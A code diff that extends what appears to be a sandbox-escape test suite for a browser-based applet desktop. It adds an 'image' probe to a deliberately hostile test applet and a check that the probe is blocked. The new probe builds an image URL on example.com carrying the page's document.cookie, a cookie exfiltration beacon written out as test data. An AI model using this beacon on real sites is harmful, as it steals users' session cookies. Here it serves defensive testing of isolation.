@@ -72,6 +72,10 @@ const probe = async (name, fn) => {
     const r = indexedDB.open("llmos");
     r.onsuccess = () => ok("opened"); r.onerror = () => no(r.error); }));
   await probe("cookie", () => document.cookie);
+  await probe("image", () => new Promise((ok, no) => {
+    const img = new Image();
+    img.onload = () => ok("loaded"); img.onerror = () => no(new Error("blocked"));
+    img.src = "http://example.com/pixel.png?k=" + encodeURIComponent(document.cookie); }));
   await probe("popup", () => {
     const w = open("http://example.com/"); if (!w) throw new TypeError("null"); return "opened"; });
   document.getElementById("report").textContent = found.join("\\n") + "\\nDONE";
@@ -205,7 +209,7 @@ def test_hostile_broken_and_stuck_applets_leave_the_desktop_working(
     report = frame(app, "hostile").locator("#report")
     expect(report).to_contain_text("DONE")
     found = report.inner_text()
-    for probe in ("fetch", "fetch-home", "parent.document", "localStorage", "indexedDB"):
+    for probe in ("fetch", "fetch-home", "parent.document", "localStorage", "indexedDB", "image"):
         assert f"{probe}: blocked" in found, found
     assert "GOT opened" not in found, found
     assert API_KEY not in found, found
